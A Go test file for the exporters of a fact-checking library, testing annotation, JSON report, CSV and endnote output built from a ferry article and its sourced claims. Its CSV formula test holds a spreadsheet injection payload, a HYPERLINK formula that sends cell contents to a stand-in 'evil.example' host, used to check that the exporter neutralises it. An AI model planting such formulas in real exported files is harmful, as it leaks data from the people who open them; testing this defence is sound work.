package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"sourcemark/claims"
	"sourcemark/claims/records/export"
	"sourcemark/claims/records/internal/recordstest"
)

const ferryArticle = "Le port. The ferry carried 41,200 passengers. “We cannot run empty boats,” said the harbour " +
	"master."

// anchored is the ferry's dossier with its quotation anchored too.
func anchored(t testing.TB) *claims.Dossier {
	return recordstest.Read(t, recordstest.Ferry, `"text": "We cannot run empty boats",`, `"text": "We cannot run empty boats",
		"anchor": {"type": "SpecificResource", "selector": {"type": "TextQuoteSelector", "exact": "“We cannot run empty boats,”"}},`)
}

func TestAnnotations(t *testing.T) {
	text := claims.Plain(ferryArticle)
	report := claims.New(anchored(t)).Check(text)
	var page struct {
		Context string `json:"@context"`
		ID      string
		Type    string
		Items   []struct {
			ID, Type, Motivation string
			Body                 []struct{ ID, Type, Source, Value, Format, Purpose string }
			Target               struct {
				Source   string
				Selector []struct {
					Type, Exact, Prefix, Suffix string
					Start, End                  int
				}
			}
		}
	}
	if err := json.Unmarshal(export.Annotations(recordstest.FerryPage, report), &page); err != nil {
		t.Fatal(err)
	}
	if page.Context != "http://www.w3.org/ns/anno.jsonld" || page.Type != "AnnotationPage" || len(page.Items) != 2 {
		t.Fatalf("got %+v", page)
	}
	for _, item := range page.Items {
		quote, position := item.Target.Selector[0], item.Target.Selector[1]
		if quote.Type != "TextQuoteSelector" || position.Type != "TextPositionSelector" ||
			item.Target.Source != recordstest.FerryPage {
			t.Errorf("got the target %+v", item.Target)
		}
		// Positions are code points, for which a quotation mark is one.
		if got := string([]rune(ferryArticle)[position.Start:position.End]); got != quote.Exact {
			t.Errorf("the position leads to %q, the words are %q", got, quote.Exact)
		}
	}
	first := page.Items[0]
	if first.Type != "Annotation" || first.Motivation != "assessing" ||
		first.Body[0].Source != "https://desk.example/2022/ferry.json#c1" ||
		first.Body[1].Value != "The ferry carried 41,200 passengers" || first.Body[2].Value != "Wrong number" ||
		first.Body[3].Value != "disputed" {
		t.Errorf("got %+v", first)
	}
	empty := claims.Plain("Nothing.")
	if items := recordstest.At(recordstest.Decoded(t, export.Annotations("", claims.New().Check(empty))),
		"items"); !recordstest.Equal(items, []any{}) {
		t.Errorf("no items are %v", items)
	}
}

// What an item does not have is null, so that a program finds every name in every item.
func TestReport(t *testing.T) {
	text := claims.Plain(ferryArticle + " In 2021 the port lost 4 million euros, the council said.")
	d := anchored(t)
	d.Records = append(d.Records, d.Records[0])
	d.Records[2].ID, d.Records[2].Anchor = "#c3", claims.Selector{Prefix: "The ferry ",
		Exact: "carried 43,900 passengers", Suffix: ". “We"}
	v := recordstest.Decoded(t, export.Report(claims.New(d).Check(text)))
	items := recordstest.At(v, "items").([]any)
	want := []any{
		map[string]any{"start": 19.0, "end": 44.0, "exact": "carried 41,200 passengers", "kind": "claim",
			"speaker": "Harbour master", "record": "#c1", "relation": "same",
			"placement": "exact", "automatic": false, "status": "disputed", "quoteMatch": nil, "score": 1.0},
		map[string]any{"start": 46.0, "end": 78.0, "exact": "“We cannot run empty boats,”", "kind": "quote",
			"speaker": "Harbour master", "record": "#q1", "relation": "same",
			"placement": "exact", "automatic": false, "status": "sourced", "quoteMatch": "altered", "score": 1.0},
	}
	if len(items) != 3 || !recordstest.Equal(items[:2], want) {
		t.Errorf("got\n%v\nwant\n%v and one claim without a record", items, want)
	}
	if last := items[2]; recordstest.At(last, "record") != nil || recordstest.At(last, "kind") != "claim" {
		t.Errorf("got %v", last)
	}
	if u := recordstest.At(v, "unplaced").([]any); len(u) != 1 || recordstest.At(u[0], "record") != "#c3" ||
		!recordstest.Equal(recordstest.At(u[0], "differences"),
			[]any{map[string]any{"kind": "number", "record": "43,900", "article": "41,200"}}) {
		t.Errorf("unplaced: %v", u)
	}
}

func TestCSV(t *testing.T) {
	d := recordstest.Read(t, recordstest.Ferry, `"citation": "#s1"`, `"citation": ["#s1", "#s2"]`)
	rows := table(t, export.CSV(d, nil))
	if len(rows) != 3 {
		t.Fatalf("%d lines, want two for the claim's two sources and one for the quotation", len(rows))
	}
	for _, c := range []struct {
		line         int
		column, want string
	}{
		{0, "id", "#c1"}, {0, "status", "disputed"}, {0, "quote", "carried 41,200 passengers"}, {0, "verdict",
			"Wrong number"}, {0, "publisher", "County office"},
		{0, "excerpt", "40,200 passengers"}, {0, "negative", "yes"}, {0, "reviewed", "2022-02-11"}, {0, "date",
			"2022-01-14"}, {0, "passage", "citation"},
		{1, "id", "#c1"}, {1, "text", "The ferry carried 41,200 passengers"}, {1, "verdict", ""}, {1, "title",
			"Minutes"},
		{2, "kind", "quote"}, {2, "passage", "version"}, {2, "excerpt", "We cannot run half-empty boats."},
	} {
		if got := rows[c.line][c.column]; got != c.want {
			t.Errorf("line %d, %s: got %q, want %q", c.line, c.column, got, c.want)
		}
	}
}

// table is the lines of a CSV file by the names of their columns.
func table(t testing.TB, data []byte) []map[string]string {
	t.Helper()
	all, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, row := range all[1:] {
		m := map[string]string{}
		for i, name := range all[0] {
			m[name] = row[i]
		}
		out = append(out, m)
	}
	return out
}

// A cell that a spreadsheet would run as a formula is text in it.
func TestCSVFormulas(t *testing.T) {
	for _, c := range []struct{ words, want string }{
		{`=HYPERLINK("https://evil.example/?"&A1)`, `'=HYPERLINK("https://evil.example/?"&A1)`},
		{"+1", "'+1"}, {"-2+3", "'-2+3"}, {"@SUM(1)", "'@SUM(1)"}, {"\t=1", "'\t'=1"}, {"＝1", "'＝1"}, {"'=1", "''=1"},
		{"’tis", "’tis"}, {"'tis", "'tis"}, {"a=b", "a=b"}, {`two, "three"`, `two, "three"`},
	} {
		d := recordstest.Read(t, recordstest.Ferry)
		d.Records[0].Text = c.words
		if got := table(t, export.CSV(d))[0]["text"]; got != c.want {
			t.Errorf("%q became %q, want %q", c.words, got, c.want)
		}
	}
}

func TestEndnotes(t *testing.T) {
	text := claims.Plain(ferryArticle)
	d := anchored(t)
	d.Records[0].Reviews[0].Why = "It \x1bcarried\u202e\n# <b>40,200</b> [*]."
	d.Sources[0].Archived = "https://archive.example/1"
	want := `1. “carried 41,200 passengers” (Harbour master)
   **Wrong number**. It carried \# \<b\>40,200\</b\> \[\*\].
   - County office, 2022-01-14: <https://county.example/ferry> (archived: <https://archive.example/1>)
2. “We cannot run empty boats,” (Harbour master)
   Sourced
   - Town council, “Minutes”
`
	if got := string(export.Endnotes(claims.New(d).Check(text))); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// A page of a report is JSON whatever the words are.
func FuzzReport(f *testing.F) {
	f.Add("41,200 \"passengers\"</script>\\", "x\xff\u2028")
	f.Fuzz(func(t *testing.T, words, more string) {
		d := recordstest.Read(t, recordstest.Ferry)
		d.Records[0].Text, d.Records[0].Anchor.Exact, d.ID = words, words, more
		text := claims.Plain(strings.Join([]string{more, words, ferryArticle}, " "))
		report := claims.New(d).Check(text)
		recordstest.Decoded(t, export.Report(report))
		recordstest.Decoded(t, export.Annotations(more, report))
		recordstest.Decoded(t, export.Feed(d))
	})
}

// TestParts wants each part of a quotation that is split by who says it in what is exported.
func TestParts(t *testing.T) {
	const article = "Å. “We have the boats,” said Anton Brown. “But we cannot run them empty through the winter.”"
	d := &claims.Dossier{Language: "en",
		Records: []claims.Record{{ID: "#q1", Kind: claims.Quotation, Status: claims.Sourced,
			Text: "We have the boats. But we cannot run them empty through the " +
				"winter.", Speaker: claims.Party{Name: "Anton Brown"}}}}
	report := claims.New(d).Check(claims.Plain(article))
	found := recordstest.Decoded(t, export.Report(report))
	parts, _ := recordstest.At(recordstest.At(found, "items").([]any)[0], "parts").([]any)
	var words []string
	for _, p := range parts {
		words = append(words, article[int(recordstest.At(p, "start").(float64)):int(recordstest.At(p,
			"end").(float64))])
	}
	if got, want := strings.Join(words,
		"|"), "“We have the boats,”|“But we cannot run them empty through the winter.”"; got != want {
		t.Errorf("parts %s, want %s", got, want)
	}
	selectors, _ := recordstest.At(recordstest.At(recordstest.Decoded(t,
		export.Annotations(recordstest.FerryPage, report)), "items").([]any)[0], "target selector").([]any)
	if len(selectors) != 4 {
		t.Fatalf("%d selectors, want two for each part", len(selectors))
	}
	points := []rune(article)
	for i, want := range words {
		if got := recordstest.At(selectors[2*i], "exact"); got != want {
			t.Errorf("selector %d: %v, want %s", i, got, want)
		}
		p := selectors[2*i+1]
		if got := string(points[int(recordstest.At(p, "start").(float64)):int(recordstest.At(p,
			"end").(float64))]); got != want {
			t.Errorf("position %d: %s, want %s", i, got, want)
		}
	}
}

// A report of what somebody has sent is no longer than one of a book: what has a record is in it, and of the rest so
// much.
func TestReportOfTooMuch(t *testing.T) {
	text := claims.Plain(strings.Repeat("„a“, sagte ", 12_000) + "\n\n" + ferryArticle)
	data := export.Report(claims.New(anchored(t)).Check(text))
	v := recordstest.Decoded(t, data)
	items := recordstest.At(v, "items").([]any)
	recorded := 0
	for _, x := range items {
		if recordstest.At(x, "record") != nil {
			recorded++
		}
	}
	if len(items) != 10_002 || recorded != 2 || recordstest.At(v, "partial") != true {
		t.Errorf("%d items, %d of them with a record, partial is %v", len(items), recorded,
			recordstest.At(v, "partial"))
	}
}
